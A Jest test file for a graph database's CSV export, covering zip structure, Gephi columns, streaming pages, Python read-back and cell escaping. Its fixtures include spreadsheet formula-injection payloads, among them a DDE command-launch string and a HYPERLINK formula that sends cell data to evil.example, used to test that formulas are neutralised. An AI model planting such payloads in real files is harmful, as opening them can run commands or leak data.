import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import Graph from "graphology";
import { parse as parseGexf } from "graphology-gexf";
import { fieldsOf } from "../../src/entity/field";
import { SourceInput } from "../../src/source/source.input";
import { loadDocument } from "../../src/seed/document";
import { DEMO_GRAPH } from "../../src/seed/seed";
import { exportDocument } from "../../src/export/export.document";
import { exportGraph, graphHeader } from "../../src/export/export.graph";
import { ExportFormat } from "../../src/export/export.formats";
import { exportBytes, exportText, openExport } from "../../src/export/export.service";
import { ExportScope, GraphMode, WHOLE_GRAPH } from "../../src/export/export.scope";
import { deleteByPrefix, useGraphQLClient } from "../support/database";
import { knownGraph } from "../support/known-graph";
import { headerOf, listOf, pythonReadBack, rowsOf, unzipTables } from "./csv-read";

// knownGraph (Xylo: Alpha LEADER, Beta, Gamma FUNDER; Yak 2019-05-01 → 2021-12-31: Alpha, Beta;
// Zeta: Gamma, Delta; Wolf: Epsilon; memberships from 2020-01-01, all citing `src`), plus actors
// in no alliance whose names are hostile to spreadsheets, one citing a source with a hostile title.
const P = "expcsv-";
const mine: ExportScope = { ...WHOLE_GRAPH, idPrefix: P };
const HOSTILE: Record<string, string> = {
  formula: "=cmd|' /C calc'!A0",
  hyperlink: '=HYPERLINK("http://evil.example/?"&A1;"clic")',
  plus: "+33 1 45 00 00 00",
  minus: "-2+3",
  at: "@SUM(A1:A9)",
  tab: "\t=1+1",
  fullwidth: "\uFF1D1+1",
  quotes: 'Les "Amis", du quartier\r\nde Créteil; été, ’apostrophe’ 🎉',
  apostrophe: "'déjà entre apostrophes",
};
const HOSTILE_TITLE = '-1 "rapport", été\nsuite; =2';
/** What a spreadsheet-safe cell holds: a `'` before text starting with = + - @ tab CR or their full-width forms. */
const escaped = (text: string) => (/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(text) ? `'${text}` : text);
// Declared before the client, so this clean-up runs before it closes the database.
afterAll(() => deleteByPrefix(db.connection, P));
const db = useGraphQLClient();

beforeAll(async () => {
  await deleteByPrefix(db.connection, P);
  const doc = knownGraph(P);
  // No SIREN or RNA: those are unique, and other files load the known graph with theirs.
  doc.actors = doc.actors.map(({ siren: _s, rna: _r, ...actor }: any) => actor);
  doc.sources.push({ id: `${P}src-hostile`, title: "placeholder", kind: "OTHER" });
  for (const name of Object.keys(HOSTILE)) doc.actors.push({ id: `${P}h-${name}`, name: "placeholder", kind: "ASSOCIATION", sourceIds: [`${P}src-hostile`] });
  await loadDocument(db.connection.executor, doc);
  // Written with Cypher: the validators refuse line breaks and tabs in names, but stored data may hold them.
  await db.connection.executor.write(async (tx) => {
    for (const [name, value] of Object.entries(HOSTILE)) await tx.run("MATCH (a:Actor {id: $id}) SET a.name = $value", { id: `${P}h-${name}`, value });
    await tx.run("MATCH (s:Source {id: $id}) SET s.title = $value", { id: `${P}src-hostile`, value: HOSTILE_TITLE });
  });
});

const csvZip = async (scope: ExportScope, mode: GraphMode, pageSize?: number) => exportBytes(await openExport(db.connection.executor, ExportFormat.CSV, scope, mode, { pageSize }));
const tables = async (scope: ExportScope, mode: GraphMode, pageSize?: number) => unzipTables(await csvZip(scope, mode, pageSize));
const byId = (rows: Record<string, string>[], key = "Id") => new Map(rows.map((row) => [row[key], row]));
const actor = (name: string) => `actor:${P}${name}`;
const alliance = (name: string) => `alliance:${P}${name}`;

describe("the CSV export, bipartite", () => {
  it("is a zip of nodes.csv, edges.csv and sources.csv with Gephi's columns first, then every attribute", async () => {
    const { names, text } = await tables(mine, "bipartite");
    expect(names).toEqual(["nodes.csv", "edges.csv", "sources.csv"]);
    const header = graphHeader(mine, "bipartite");
    expect(headerOf(text["nodes.csv"])).toEqual(["Id", "Label", ...header.nodeAttributes.map((a) => a.name).filter((n) => n !== "label")]);
    expect(headerOf(text["edges.csv"])).toEqual([
      "Source", "Target", "Type", "Id", "Label", "Weight", ...header.edgeAttributes.map((a) => a.name).filter((n) => n !== "type" && n !== "weight"),
    ]);
    expect(headerOf(text["sources.csv"])).toEqual(fieldsOf(SourceInput).map((f) => f.name));
    // RFC 4180 line ends, no BOM.
    expect(text["nodes.csv"].startsWith("Id,Label,")).toBe(true);
    expect(text["nodes.csv"].split("\r\n")[0]).not.toContain("\n");
  });

  it("writes the known actors, alliances and memberships as these rows", async () => {
    const { text } = await tables(mine, "bipartite");
    const nodes = byId(rowsOf(text["nodes.csv"]));
    const edges = byId(rowsOf(text["edges.csv"]));
    expect(nodes.get(actor("alpha"))).toMatchObject({
      Id: actor("alpha"), Label: "Alpha Association", type: "Actor", entityId: `${P}alpha`, kind: "ASSOCIATION", status: "",
      // An actor starts with its first membership in scope (GEXF's timeline shows it from then).
      territoryId: "COMMUNE:94028", territoryName: "Créteil", startDate: "2020-01-01", endDate: "", degree: "2", weightedDegree: "2",
    });
    expect(nodes.get(alliance("yak"))).toMatchObject({
      Id: alliance("yak"), Label: "Yak alliance", type: "Alliance", entityId: `${P}yak`, kind: "PHILANTHROPY", status: "ENDED",
      territoryId: "COMMUNE:94028", territoryName: "Créteil", startDate: "2019-05-01", endDate: "2021-12-31", degree: "2", weightedDegree: "2",
    });
    expect(edges.get(`membership:${P}xylo/${P}gamma`)).toMatchObject({
      Source: actor("gamma"), Target: alliance("xylo"), Type: "Directed", Id: `membership:${P}xylo/${P}gamma`, Label: "MEMBER_OF",
      Weight: "1", role: "FUNDER", startDate: "2020-01-01", endDate: "",
    });
    expect([nodes.size, edges.size]).toEqual([9 + Object.keys(HOSTILE).length, 8]);
    // Lists are JSON arrays in one cell: each element of sourceIds is a row of sources.csv.
    expect(JSON.parse(nodes.get(actor("alpha"))!.sourceIds)).toEqual([`${P}src`]);
  });

  it.each(["bipartite", "projected"] as GraphMode[])("holds, %s, every node and edge of the graph model with every attribute as its cell", async (mode) => {
    const { text } = await tables(mine, mode);
    const graph = await exportGraph(db.connection.executor, mine, mode);
    const cellOf = (value: unknown) =>
      value === undefined ? "" : typeof value === "object" ? JSON.stringify(value) : typeof value === "number" ? String(value) : escaped(String(value));
    const nodes = rowsOf(text["nodes.csv"]);
    expect(nodes.map((row) => row.Id)).toEqual(graph.nodes());
    for (const row of nodes) {
      const { Id, Label, ...rest } = row;
      const { label, ...attributes } = graph.getNodeAttributes(Id) as unknown as Record<string, unknown>;
      expect(Label).toBe(cellOf(label));
      expect(rest).toEqual(Object.fromEntries(Object.keys(rest).map((name) => [name, cellOf(attributes[name])])));
      expect(Object.keys(attributes).every((name) => name in rest)).toBe(true);
    }
    const edges = rowsOf(text["edges.csv"]);
    expect(edges.map((row) => row.Id)).toEqual(graph.edges());
    for (const row of edges) {
      const { Source, Target, Type, Id, Label, Weight, ...rest } = row;
      const { type, weight, ...attributes } = graph.getEdgeAttributes(Id) as unknown as Record<string, unknown>;
      expect([Source, Target, Type, Label, Weight]).toEqual([graph.source(Id), graph.target(Id), mode === "projected" ? "Undirected" : "Directed", type, String(weight)]);
      expect(rest).toEqual(Object.fromEntries(Object.keys(rest).map((name) => [name, cellOf(attributes[name])])));
    }
  });

  it("lists the sources the JSON document export lists, with every SourceInput field", async () => {
    const { text } = await tables(mine, "bipartite");
    const sources = rowsOf(text["sources.csv"]);
    const document = await exportDocument(db.connection.executor, mine);
    expect(sources.map((s) => s.id)).toEqual(document.sources.map((s: any) => s.id));
    expect(sources.map((s) => s.id)).toEqual([`${P}src`, `${P}src-hostile`]);
    const fields = fieldsOf(SourceInput).map((f) => f.name);
    expect(sources[0]).toEqual(Object.fromEntries(fields.map((name) => [name, ({
      id: `${P}src`, title: "Étude de test", publisher: "Observatoire des partenariats", date: "2021-06-01", url: "https://example.org/etude", kind: "STUDY",
    } as Record<string, string>)[name] ?? ""])));
  });

  it("sends zip bytes as pages are read, the first only once a page is read", async () => {
    const executor = db.connection.executor.forRequest();
    const file = await openExport(executor, ExportFormat.CSV, mine, "bipartite", { pageSize: 2 });
    const readsBeforeFirstBytes = executor.roundTrips; // openExport holds the first bytes back until then
    let chunks = 0;
    for await (const _chunk of file.chunks) chunks++;
    expect(readsBeforeFirstBytes).toBeGreaterThan(0);
    // The sources table comes first, so the ids the scope cites are read (ids only) before the first
    // bytes; the nodes, edges and sources themselves are read after, as the zip is written.
    expect(readsBeforeFirstBytes).toBeLessThan(executor.roundTrips - 5);
    expect(chunks).toBeGreaterThan(5);
  });

  it("writes the same tables with pages of 2 rows as of 1000", async () => {
    for (const mode of ["bipartite", "projected"] as GraphMode[]) {
      expect((await tables(mine, mode, 2)).text).toEqual((await tables(mine, mode)).text);
    }
  });
});

describe("the CSV export, projected", () => {
  it("has actors only and one undirected CO_CONSTRUCTS edge per pair, weighted by shared alliances", async () => {
    // Alpha and Beta share Xylo (open) and Yak (ended 2021-12-31): their span is open-ended.
    const { text } = await tables(mine, "projected");
    const nodes = byId(rowsOf(text["nodes.csv"]));
    expect([...nodes.values()].every((row) => row.type === "Actor")).toBe(true);
    expect(nodes.get(actor("alpha"))).toMatchObject({ degree: "2", weightedDegree: "3" });
    const edges = rowsOf(text["edges.csv"]);
    expect(edges.map((e) => [e.Source, e.Target, e.Type, e.Label, e.Weight])).toEqual([
      [actor("alpha"), actor("beta"), "Undirected", "CO_CONSTRUCTS", "2"],
      [actor("alpha"), actor("gamma"), "Undirected", "CO_CONSTRUCTS", "1"],
      [actor("beta"), actor("gamma"), "Undirected", "CO_CONSTRUCTS", "1"],
      [actor("delta"), actor("gamma"), "Undirected", "CO_CONSTRUCTS", "1"],
    ]);
    expect(edges[0]).toMatchObject({ Id: `${actor("alpha")}|${actor("beta")}`, startDate: "2020-01-01", endDate: "" });
    expect(listOf(edges[0].alliances)).toEqual([`${P}xylo`, `${P}yak`]);
  });
});

describe("read back by Python (zipfile, csv, networkx)", () => {
  it.each(["bipartite", "projected"] as GraphMode[])("builds, %s, the graph of the GEXF export, with the degrees the table states", async (mode) => {
    const path = join(mkdtempSync(join(tmpdir(), "maillage-csv-")), "export.zip");
    writeFileSync(path, await csvZip(mine, mode));
    const python = pythonReadBack(path, P);
    const gexf = parseGexf(Graph, await exportText(await openExport(db.connection.executor, ExportFormat.GEXF, mine, mode)));
    expect(python.files).toEqual(["nodes.csv", "edges.csv", "sources.csv"]);
    expect([python.directed, python.nodes, python.edges]).toEqual([mode === "bipartite", gexf.order, gexf.size]);
    expect(python.sources).toEqual([`${P}src`, `${P}src-hostile`]);
    expect(Object.keys(python.ourNodes).sort()).toEqual(gexf.nodes().sort());
    for (const node of Object.values(python.ourNodes) as any[]) {
      expect(node.networkxDegree).toBe(Number(node.degree));
      expect(node.networkxWeightedDegree).toBe(Number(node.weightedDegree));
    }
    expect(python.ourEdges.map((e: any) => e[2]).sort()).toEqual(gexf.edges().sort());
  });

  it("reads hostile text back as written, formulas behind a '", async () => {
    const path = join(mkdtempSync(join(tmpdir(), "maillage-csv-")), "export.zip");
    const zip = await csvZip(mine, "bipartite");
    writeFileSync(path, zip);
    const python = pythonReadBack(path, P);
    const parsed = byId(rowsOf(unzipTables(zip).text["nodes.csv"]));
    for (const [name, text] of Object.entries(HOSTILE)) {
      expect([python.ourNodes[actor(`h-${name}`)].Label, parsed.get(actor(`h-${name}`))!.Label]).toEqual([escaped(text), escaped(text)]);
    }
    expect(escaped(HOSTILE.quotes)).toBe(HOSTILE.quotes);
    const sources = byId(rowsOf(unzipTables(zip).text["sources.csv"]), "id");
    expect(sources.get(`${P}src-hostile`)!.title).toBe(`'${HOSTILE_TITLE}`);
  });
});

const NETWORK = `query ($seeds: [ID!]!, $mode: NetworkMode) {
  network(seeds: $seeds, depth: 1, mode: $mode, maxNodes: 2000) { nodes { id degree weightedDegree } edges { id weight } nodeCount edgeCount truncated }
}`;

describe("the same graph as the GraphQL network query", () => {
  it.each([["bipartite", "BIPARTITE"], ["projected", "PROJECTED"]] as const)("has, %s, the nodes, edges and weights of network() seeded with every actor", async (mode, networkMode) => {
    const { text } = await tables(mine, mode);
    const nodes = rowsOf(text["nodes.csv"]);
    const seeds = nodes.filter((n) => n.type === "Actor").map((n) => n.entityId);
    const { network } = await db.client.data(NETWORK, { seeds, mode: networkMode });
    expect(network.truncated).toBe(false);
    expect([network.nodeCount, network.edgeCount]).toEqual([nodes.length, rowsOf(text["edges.csv"]).length]);
    expect(network.nodes.map((n: any) => n.id).sort()).toEqual(nodes.map((n) => n.Id).sort());
    const weights = (edges: { id: string; weight: string | number }[]) => edges.map((e) => `${e.id} ${e.weight}`).sort();
    expect(weights(network.edges)).toEqual(weights(rowsOf(text["edges.csv"]).map((e) => ({ id: e.Id, weight: e.Weight }))));
  });
});

describe("the demo graph", () => {
  const DEMO_ACTORS = DEMO_GRAPH.actors.map((a: any) => a.id as string);
  let bipartite: Record<string, string>;
  let projected: Record<string, string>;

  beforeAll(async () => {
    await loadDocument(db.connection.executor, DEMO_GRAPH); // idempotent: MERGE on ids
    bipartite = (await tables(WHOLE_GRAPH, "bipartite")).text;
    projected = (await tables(WHOLE_GRAPH, "projected")).text;
  });

  it("holds Le RAMEAU, its membership of the media dialogue and the article it comes from", () => {
    const nodes = byId(rowsOf(bipartite["nodes.csv"]));
    expect(nodes.get("actor:le-rameau")).toMatchObject({
      Label: "Le RAMEAU", type: "Actor", entityId: "le-rameau", kind: "ASSOCIATION", territoryId: "COMMUNE:75056", territoryName: "Paris", degree: "9",
    });
    expect(nodes.get("alliance:alliance-dialogue-avec-les-medias")).toMatchObject({
      type: "Alliance", kind: "SOCIETAL_INNOVATION", territoryId: "COUNTRY:FR", startDate: "2022-03-28", endDate: "", degree: "2",
    });
    const edges = byId(rowsOf(bipartite["edges.csv"]));
    expect(edges.get("membership:alliance-dialogue-avec-les-medias/le-rameau")).toMatchObject({
      Source: "actor:le-rameau", Target: "alliance:alliance-dialogue-avec-les-medias", Type: "Directed", Label: "MEMBER_OF",
      Weight: "1", role: "LEADER", startDate: "2022-03-28", endDate: "",
    });
    const sources = byId(rowsOf(bipartite["sources.csv"]), "id");
    expect(sources.get("src-rameau-2022-faire-alliance")).toMatchObject({
      title: "Apprenons à valoriser le « faire alliance »", publisher: "Le RAMEAU", date: "2022-03-10", url: "", kind: "ARTICLE",
    });
  });

  it.each([["bipartite", "BIPARTITE"], ["projected", "PROJECTED"]] as const)("has, %s, what network() seeded with the demo actors answers", async (mode, networkMode) => {
    const text = mode === "bipartite" ? bipartite : projected;
    const { network } = await db.client.data(NETWORK, { seeds: DEMO_ACTORS, mode: networkMode });
    expect([network.nodeCount, network.edgeCount]).toEqual(mode === "bipartite" ? [26, 28] : [17, network.edges.length]);
    const nodes = byId(rowsOf(text["nodes.csv"]));
    const ids = new Set<string>(network.nodes.map((n: any) => n.id));
    expect([...ids].filter((id) => nodes.has(id))).toHaveLength(ids.size);
    const within = rowsOf(text["edges.csv"]).filter((e) => ids.has(e.Source) && ids.has(e.Target));
    expect(within.map((e) => `${e.Id} ${e.Weight}`).sort()).toEqual(network.edges.map((e: any) => `${e.id} ${e.weight}`).sort());
    for (const node of network.nodes) expect(Number(nodes.get(node.id)!.degree)).toBe(node.degree);
  });
});
